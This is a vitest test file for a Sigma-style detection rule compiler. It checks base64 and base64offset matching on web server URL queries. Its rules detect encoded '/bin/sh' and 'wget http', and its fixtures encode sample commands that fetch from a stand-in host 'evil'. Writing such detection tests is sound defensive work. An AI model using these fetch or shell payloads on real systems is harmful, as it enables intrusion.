import { Buffer } from 'node:buffer';
import { describe, expect, it } from 'vitest';
import { compileOne, compileTexts, makeEvent, matcherOf, ruleWith } from '../test-support/rule-fixtures.js';
import { base64Offsets } from './encoding-modifiers.js';

const b64 = (text: string) => Buffer.from(text).toString('base64');
const rule = (item: string) =>
  matcherOf(
    compileOne(ruleWith(`    selection:\n        ${item}\n    condition: selection`, 'category: webserver')),
  );
const query = (value: string) => makeEvent({ url: { query: value } });

describe('base64 modifiers', () => {
  it('base64 matches the encoded value, case-sensitively', () => {
    const match = rule(`cs-uri-query|base64|contains: '/bin/sh'`);
    expect(match(query(`payload=${b64('/bin/sh')}`))).toBe(true);
    expect(match(query(`payload=${b64('/bin/sh').toLowerCase()}`))).toBe(false);
  });

  it('base64offset gives the three forms pySigma gives', () => {
    expect(base64Offsets(Buffer.from('/bin/sh'))).toEqual(['L2Jpbi9za', '9iaW4vc2', 'vYmluL3No']);
  });

  it('base64offset|contains finds the value at any byte offset inside encoded data', () => {
    const match = rule(`cs-uri-query|base64offset|contains: 'wget http'`);
    for (const prefix of ['', 'a', 'ab', 'abc', 'echo x; ']) {
      expect(match(query(`c=${b64(`${prefix}wget http://evil/x`)}`)), prefix).toBe(true);
    }
    expect(match(query(`c=${b64('curl http://evil/x')}`))).toBe(false);
  });

  it('refuses wildcards and warns when contains is missing', () => {
    const result = compileTexts(
      ruleWith(
        `    a:\n        cs-uri-query|base64: 'a*'\n    b:\n        cs-uri-query|base64offset: 'abc'\n    condition: a or b`,
        'category: webserver',
      ),
    );
    expect(result.errors.map((error) => error.message)).toEqual([
      `'base64' cannot encode a value with wildcards`,
    ]);
    expect(result.warnings.map((warning) => warning.message)).toContain(
      `'base64offset' without a following 'contains' matches only whole values`,
    );
  });
});
